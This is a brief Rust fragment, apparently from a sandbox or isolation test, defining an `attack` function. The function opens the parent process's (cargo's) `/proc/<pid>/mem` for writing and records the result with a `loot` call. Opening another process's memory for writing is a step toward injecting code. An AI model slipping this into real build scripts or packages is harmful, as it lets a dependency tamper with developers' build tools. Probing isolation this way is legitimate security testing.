//! opens the memory of cargo to write into it
fn attack() -> Result<()> {
    let parent = std::os::unix::process::parent_id();
    fs::OpenOptions::new().write(true).open(format!("/proc/{parent}/mem"))?;
    loot("opened")
}
